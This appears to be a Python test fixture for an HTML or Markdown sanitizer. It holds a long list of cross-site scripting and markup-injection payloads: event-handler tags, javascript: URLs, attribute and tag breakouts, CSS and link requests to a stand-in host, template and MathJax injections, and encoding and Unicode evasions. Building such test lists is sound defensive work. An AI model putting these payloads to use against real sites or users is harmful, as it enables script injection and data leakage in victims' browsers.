"""Texts that would run a script or send a request if they were read as markup."""

BEACON = "https://beacon.example"
RUN = "window.ran=1"
PAYLOADS = (
    # elements and their events
    *(f"<script>{RUN}</script>", f"<SCRIPT SRC={BEACON}/1.js></SCRIPT>", f"<img src=x onerror={RUN}>"),
    *(f"<img src={BEACON}/2.png>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>"),
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    *(f"<svg><image href={BEACON}/3.png></svg>", f"<svg><use href={BEACON}/4.svg#x></svg>"),
    *(f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}></iframe>"),
    *(f"<iframe src={BEACON}/5></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"),
    *(f"<object data={BEACON}/6></object>", f"<embed src={BEACON}/7>"),
    *(f"<video><source onerror={RUN}></video>", f"<video poster={BEACON}/8.png></video>"),
    *(f"<audio src={BEACON}/9.mp3 autoplay></audio>", f"<input autofocus onfocus={RUN}>"),
    *(f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>"),
    *(f"<details open ontoggle={RUN}>", f"<marquee onstart={RUN}>", f"<a href=javascript:{RUN}>x</a>"),
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<form action={BEACON}/10><button autofocus>x</button></form>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    # requests without a script
    *(f"<link rel=stylesheet href={BEACON}/11.css>", f"<link rel=prefetch href={BEACON}/12>"),
    f"<link rel=dns-prefetch href={BEACON}>",
    *(f"<meta http-equiv=refresh content='0;url={BEACON}/13'>", f"<base href={BEACON}/>"),
    *(f"<style>@import '{BEACON}/14.css';</style>", f"<style>*{{background:url({BEACON}/15)}}</style>"),
    f"<span style='background:url({BEACON}/16)'>x</span>",
    f"<b style='background-image:image-set(\"{BEACON}/17\" 1x)'>x</b>",
    *(f"<table background={BEACON}/18><tr><td>x</table>", f"<a ping={BEACON}/19 href=#>x</a>"),
    # out of an attribute, a string, a comment, an element
    *(f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>"),
    *(f'" onmouseover={RUN} autofocus onfocus={RUN} x="', f"' onfocus={RUN} autofocus '"),
    *(f"</script><script>{RUN}</script>", f"</style><img src=x onerror={RUN}>"),
    *(f"</title><img src=x onerror={RUN}>", f"</textarea><img src=x onerror={RUN}>"),
    *(f"--><img src=x onerror={RUN}>", f"<!--<img src='--><img src=x onerror={RUN}>'>"),
    *(f"]]><img src=x onerror={RUN}>", f"';{RUN};'", f'";{RUN};"', f"`;{RUN};`", f"${{{RUN}}}"),
    *(f"{{{{constructor.constructor('{RUN}')()}}}}", f"%{{customdata}}<img src=x onerror={RUN}>"),
    # as addresses
    *(f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" \x01javascript:{RUN}", f"java\nscript:{RUN}"),
    *(f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", "//beacon.example/20"),
    *(f'{BEACON}/21"onmouseover={RUN} x=', f'{BEACON}/31"onmouseover={RUN}//'),
    *(f"{BEACON}/32'onclick={RUN}//", f"{BEACON}/33?<script>{RUN}</script>"),
    *(f'{BEACON}/34#"><img/src=x/onerror={RUN}>', "https://user:pass@beacon.example/22"),
    # as Markdown and as mathematics
    *(f"![x]({BEACON}/23.png)", f"[x](javascript:{RUN})", f"<{BEACON}/24>"),
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\require{{html}}\\style{{background:url({BEACON}/25)}}{{x}}$$",
    f"\\(\\unicode{{x3c}}img src=x onerror={RUN}\\)",
    # encoded, broken and turned around
    *(f"&lt;img src=x onerror={RUN}&gt;", f"&#60;img src=x onerror={RUN}&#62;"),
    *(f"%3Cimg%20src=x%20onerror={RUN}%3E", f"\\u003cimg src=x onerror={RUN}\\u003e"),
    *(f"<img\x00 src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>"),
    *(f"<\u202eimg src=x onerror={RUN}>", f"\u2028<img src=x onerror={RUN}>"),
    *(f"\x1b]8;;{BEACON}/26\x07x\x1b]8;;\x07", f"<<img src=x onerror={RUN}>>"),
    f"<img src=x onerror={RUN}//",
    f"ı<ſcript>{RUN}</ſcript>",  # noqa: RUF001  letters that fold to others
)
